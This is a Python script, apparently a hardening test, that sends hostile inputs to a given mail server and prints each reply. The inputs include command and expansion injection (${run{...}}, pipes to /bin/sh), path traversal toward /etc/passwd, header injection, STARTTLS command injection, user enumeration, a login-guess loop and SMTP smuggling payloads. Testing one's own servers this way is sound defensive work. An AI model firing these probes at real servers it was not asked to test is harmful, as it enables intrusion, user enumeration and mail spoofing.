# Says hostile things to the mail server, each on a connection of its own, and prints "name<TAB>last answer".
# usage: hostile-smtp.py HOST
import re, socket, ssl, sys

host = sys.argv[1]


class Line:
    def __init__(self, port=25):
        self.socket = socket.create_connection((host, port), timeout=30)
        self.file = self.socket.makefile("rb")
        self.answer()

    def send(self, data):
        try:
            self.socket.sendall(data)
        except OSError:
            pass  # closed by the other side: the next answer tells

    def answer(self):
        last = b""
        while True:
            try:
                line = self.file.readline(4096)
            except OSError:
                return "closed"
            if not line:
                return last.decode("latin-1").strip() or "closed"
            last = line
            if line[3:4] != b"-":
                return line.decode("latin-1").strip()

    def say(self, *commands):
        result = ""
        for command in commands:
            self.send(command.encode("latin-1") + b"\r\n")
            result = self.answer()
        return result


def report(name, answer):
    print(f"{name}\t{answer}", flush=True)


def rcpt(name, address):
    report(name, Line().say("EHLO client.stranger.test", "MAIL FROM:<a@stranger.test>", f"RCPT TO:{address}"))


def data(name, text, recipient="alice@example.com"):
    line = Line()
    if not line.say("EHLO client.stranger.test", "MAIL FROM:<a@stranger.test>", f"RCPT TO:<{recipient}>", "DATA").startswith("354"):
        return report(name, "no DATA")
    line.send(text)
    report(name, line.answer())


# Addresses that want to be paths, commands or routes.
rcpt("dots up", "<../../etc/passwd@example.com>")
rcpt("dots inside", "<a/../../b@example.com>")
rcpt("dots behind", "<bob/..@example.com>")
rcpt("absolute path", "</etc/passwd@example.com>")
rcpt("quoted path", '<"/etc/passwd"@example.com>')
rcpt("pipe", "<|/bin/sh@example.com>")
rcpt("quoted pipe", '<"|/bin/sh -c id"@example.com>')
rcpt("per cent relay", "<x%elsewhere.test@example.com>")
rcpt("bang relay", "<elsewhere.test!x@example.com>")
rcpt("quoted relay", '<"x@elsewhere.test"@example.com>')
rcpt("source route", "<@example.com:x@elsewhere.test>")
rcpt("domain with a path", "<bob@../example.com>")
rcpt("domain is a path", "<bob@example.com/../example.org>")
rcpt("domain literal", "<bob@[192.0.2.1]>")
rcpt("two ats", "<bob@example.com@elsewhere.test>")
rcpt("hidden directory", "<.ssh@example.com>")
rcpt("expansion", "<${run{/bin/touch$tod_epoch}}@example.com>")
rcpt("expansion quoted", '<"${run{/bin/touch /tmp/hostile}}"@example.com>')
rcpt("lookup", '<"${lookup{root}lsearch{/etc/passwd}}"@example.com>')
rcpt("include", '<":include:/etc/passwd"@example.com>')
rcpt("local part too long", "<" + "a" * 3000 + "@example.com>")
rcpt("domain too long", "<bob@" + "a." * 200 + "example.com>")
rcpt("Latin-1 local part", "<b\xf6b@example.com>")
rcpt("UTF-8 local part", "<b\xc3\xb6b@example.com>")
rcpt("fullwidth at", "<bob\xef\xbc\xa0elsewhere.test@example.com>")
rcpt("Cyrillic domain", "<bob@\xd0\xb5xample.com>")
rcpt("zero byte", "<bob\0@example.com>")
rcpt("header injection", "<bob@example.com\nX-Evil: yes>")
rcpt("list of names", "<bob@example.com,carol@example.org>")
rcpt("SRS that is none", "<SRS0=HHH=TT=elsewhere.test=x@example.com>")

# Commands.
report("sender expansion", Line().say("EHLO client.stranger.test", "MAIL FROM:<${run{/bin/touch$tod_epoch}}@stranger.test>", "RCPT TO:<bob@example.com>"))
report("hello expansion", Line().say("EHLO ${run{/bin/touch$tod_epoch}}"))
report("command too long", Line().say("EHLO " + "a" * 200000))
report("expand a list", Line().say("EHLO client.stranger.test", "EXPN root"))
report("name a user", Line().say("EHLO client.stranger.test", "VRFY root"))
report("start a queue run", Line().say("EHLO client.stranger.test", "ETRN example.com"))
report("data without recipient", Line().say("EHLO client.stranger.test", "MAIL FROM:<a@stranger.test>", "DATA"))
report("too big by its own words", Line().say("EHLO client.stranger.test", "MAIL FROM:<a@stranger.test> SIZE=99999999999"))
report("login in clear", Line().say("EHLO client.stranger.test", "AUTH PLAIN AGJvYkBleGFtcGxlLmNvbQBib2JwYXNz"))
report("nonsense without end", Line().say("EHLO client.stranger.test", *["NONSENSE"] * 12))

line = Line()
line.say("EHLO client.stranger.test")
line.send(b"STARTTLS\r\nEHLO injected.test\r\nMAIL FROM:<evil@stranger.test>\r\n")
line.answer()
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
try:
    line.socket.settimeout(5)
    secure = context.wrap_socket(line.socket)
    secure.sendall(b"RCPT TO:<bob@example.com>\r\n")
    report("commands before TLS", secure.recv(4096).decode("latin-1").strip())
except (OSError, ssl.SSLError):
    report("commands before TLS", "no TLS")

with_tls = context.wrap_socket(socket.create_connection((host, 465), timeout=60))
answers = with_tls.makefile("rb")
answers.readline()
with_tls.sendall(b"EHLO client.stranger.test\r\n")
while answers.readline()[3:4] == b"-":
    pass
last = b""
for attempt in range(30):
    try:
        with_tls.sendall(b"AUTH PLAIN AGJvYkBleGFtcGxlLmNvbQB3cm9uZw==\r\n")
        last = answers.readline() or b"closed"
    except OSError:
        last = b"closed"
    if not last.startswith(b"535"):
        break
report("flood of logins", last.decode("latin-1").strip())

# Ends of a message that only some servers take for one (smuggling): what follows must stay a part of the first message.
follow = b"MAIL FROM:<smuggled@stranger.test>\r\nRCPT TO:<bob@example.com>\r\nDATA\r\nSubject: smuggled\r\n\r\n"
for name, end in (("LF dot LF", b"\n.\n"), ("LF dot CRLF", b"\n.\r\n"), ("CRLF dot LF", b"\r\n.\n"), ("CR dot CR", b"\r.\r"), ("CRLF dot CR", b"\r\n.\r"), ("CR dot CRLF", b"\r.\r\n"), ("zero byte dot", b"\r\n\0.\r\n")):
    line = Line()
    line.say("EHLO client.stranger.test", "MAIL FROM:<a@stranger.test>", "RCPT TO:<bob@example.com>", "DATA")
    line.send(b"Subject: outer\r\n\r\nbody" + end + follow + b"\r\n.\r\n")
    first = line.answer()
    line.socket.settimeout(2)
    second = line.answer()
    report(f"smuggling with {name}", f"{first} then {second}")

data("header too large", b"Subject: x\r\n" + b"X-Big: " + b"a" * 2000000 + b"\r\n\r\nbody\r\n.\r\n")
data("too many hops", b"".join(b"Received: from a by b; Sat, 21 Nov 2026 12:00:00 +0000\r\n" for _ in range(100)) + b"Subject: loop\r\n\r\nbody\r\n.\r\n")
data("forged results", b"Subject: forged\r\nX-Spam-Status: innocent\r\nX-Anti-Virus: clean\r\n\r\nbody\r\n.\r\n")
data("dots", b"Subject: dots\r\n\r\n..one\r\n...two\r\n.\r\n")
